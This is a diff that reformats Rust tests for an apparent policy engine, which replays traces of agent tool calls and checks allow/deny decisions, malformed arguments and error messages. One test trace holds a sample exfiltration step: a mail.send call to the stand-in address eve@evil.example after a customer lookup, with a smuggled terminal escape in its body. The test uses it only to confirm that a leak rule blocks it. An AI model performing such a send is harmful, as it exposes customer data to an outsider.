@@ -68,7 +68,10 @@ fn members_stand_in_the_contract_s_order() {
     let bench = Bench::built(SHOP);
     bench.write("trace.jsonl", &lines(&[call("crm.find", r#"{"id":"c"}"#)]));
     let ran = bench.run(&["replay", "policy.frame", "trace.jsonl", "--format", "jsonl"]);
-    let members = ["version", "line", "id", "session", "step", "tool", "verdict", "rule", "rules", "observed", "code", "message", "who", "labels", "at", "frame"];
+    let members = [
+        "version", "line", "id", "session", "step", "tool", "verdict", "rule", "rules", "observed", "code", "message", "who", "labels",
+        "at", "frame",
+    ];
     let places: Vec<usize> = members.iter().map(|member| ran.out.find(&format!("\"{member}\":")).unwrap()).collect();
     assert!(places.is_sorted(), "{}", ran.out);
 }
@@ -76,11 +79,22 @@ fn members_stand_in_the_contract_s_order() {
 #[test]
 fn malformed_arguments_decide_all_the_same() {
     let bench = Bench::built(SHOP);
-    let odd = [r#"{"amount":1,"amount":2}"#, r#"{"amount":100000000000000000000}"#, r#"{"amount":"\ud83e"}"#, r#"{"amount":1,"AMOUNT":1}"#, "null", "[]", "3"];
+    let odd = [
+        r#"{"amount":1,"amount":2}"#,
+        r#"{"amount":100000000000000000000}"#,
+        r#"{"amount":"\ud83e"}"#,
+        r#"{"amount":1,"AMOUNT":1}"#,
+        "null",
+        "[]",
+        "3",
+    ];
     let decisions = bench.replay(&lines(&odd.map(|args| call("pay.refund", args))));
     assert_eq!(decisions.len(), odd.len());
     for decision in &decisions {
-        assert_eq!((&decision["verdict"], &decision["code"], &decision["rule"]), (&json!("deny"), &json!("malformed_arguments"), &json!(null)));
+        assert_eq!(
+            (&decision["verdict"], &decision["code"], &decision["rule"]),
+            (&json!("deny"), &json!("malformed_arguments"), &json!(null))
+        );
     }
 }
 
@@ -182,7 +196,10 @@ fn errors_of_the_record_stop_the_run_and_name_the_line() {
         (r#"{"session":"s","event":"user.typed","args":{}}"#, "no event `user.typed`"),
         (r#"{"session":"s","event":"user.message","args":{"text":7}}"#, "do not fit"),
         (r#"{"result_of":"9","result":{"ok":true}}"#, "no line before"),
-        (r#"{"session":"s","persona":"support","tool":"crm.find","args":{"id":"c"},"result":{"ok":true,"labels":["secret"]}}"#, "no label `secret`"),
+        (
+            r#"{"session":"s","persona":"support","tool":"crm.find","args":{"id":"c"},"result":{"ok":true,"labels":["secret"]}}"#,
+            "no label `secret`",
+        ),
         (r#"{"session":"s","persona":"support","tool":"crm.find","args":{"id":"c"},"at":"noon"}"#, "RFC 3339"),
     ];
     for (line, words) in bad {
@@ -211,7 +228,10 @@ fn expectations_that_are_not_met_are_listed() {
     let bench = Bench::built(SHOP);
     let line = |expect: &str| format!(r#"{{"session":"s","persona":"support","tool":"mail.send","args":{{"to":"x"}},{expect}}}"#);
     bench.write("good.jsonl", &lines(&[line(r#""expect":"allow","expect_rule":["x","support.allow#1"],"expect_code":"rule""#)]));
-    bench.write("bad.jsonl", &lines(&[call("crm.find", r#"{"id":"c"}"#), line(r#""expect":"allow""#), line(r#""expect":"deny","expect_rule":"other""#)]));
+    bench.write(
+        "bad.jsonl",
+        &lines(&[call("crm.find", r#"{"id":"c"}"#), line(r#""expect":"allow""#), line(r#""expect":"deny","expect_rule":"other""#)]),
+    );
     let good = bench.run(&["replay", "policy.frame", "good.jsonl", "--expect"]);
     assert_eq!(good.exit, Some(0), "{}{}", good.out, good.err);
     assert!(good.out.contains("1 of 1 expectations met"), "{}", good.out);
@@ -227,10 +247,20 @@ fn expectations_that_are_not_met_are_listed() {
 #[test]
 fn the_story_says_who_was_stopped_by_which_rule_and_why() {
     let bench = Bench::built(SHOP);
-    bench.write("trace.jsonl", &lines(&[call("crm.find", r#"{"id":"c"}"#), call("mail.send", r#"{"to":"eve@evil.example","body":"\u001b[2J"}"#)]));
+    bench.write(
+        "trace.jsonl",
+        &lines(&[call("crm.find", r#"{"id":"c"}"#), call("mail.send", r#"{"to":"eve@evil.example","body":"\u001b[2J"}"#)]),
+    );
     let ran = bench.run(&["replay", "policy.frame", "trace.jsonl"]);
     assert_eq!(ran.exit, Some(0));
-    for part in ["session s", "mail.send(to: \"eve@evil.example\"", "by leak: customer data stays in", "the session has seen pii (from call 1, crm.find)", "2 calls in 1 session", "1 denied"] {
+    for part in [
+        "session s",
+        "mail.send(to: \"eve@evil.example\"",
+        "by leak: customer data stays in",
+        "the session has seen pii (from call 1, crm.find)",
+        "2 calls in 1 session",
+        "1 denied",
+    ] {
         assert!(ran.out.contains(part), "{part} is missing in {}", ran.out);
     }
     assert!(!ran.out.contains('\u{1b}'), "styles and smuggled escapes stay out of a pipe: {:?}", ran.out);
